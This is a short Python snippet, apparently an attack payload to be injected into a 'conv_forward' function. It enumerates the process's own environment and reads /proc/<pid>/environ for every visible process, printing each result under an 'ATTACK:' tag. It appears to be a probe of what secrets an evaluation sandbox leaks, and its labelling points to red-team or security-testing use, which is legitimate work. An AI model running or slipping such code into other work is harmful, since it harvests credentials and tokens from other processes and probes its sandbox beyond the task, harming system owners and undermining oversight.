# where: conv_forward
# Every environment this process can see: its own, its threads', and each visible process's.
import os as _os
print('ATTACK: os.environ keys %s' % sorted(_os.environ))
for _pid in sorted(_p for _p in _os.listdir('/proc') if _p.isdigit()) + ['self', 'thread-self']:
    try:
        with open('/proc/%s/environ' % _pid, 'rb') as _f:
            print('ATTACK: /proc/%s/environ = %s' % (_pid, _f.read().replace(b'\0', b' ').decode(errors='replace')))
    except Exception as _e:
        print('ATTACK: /proc/%s/environ %s' % (_pid, type(_e).__name__))
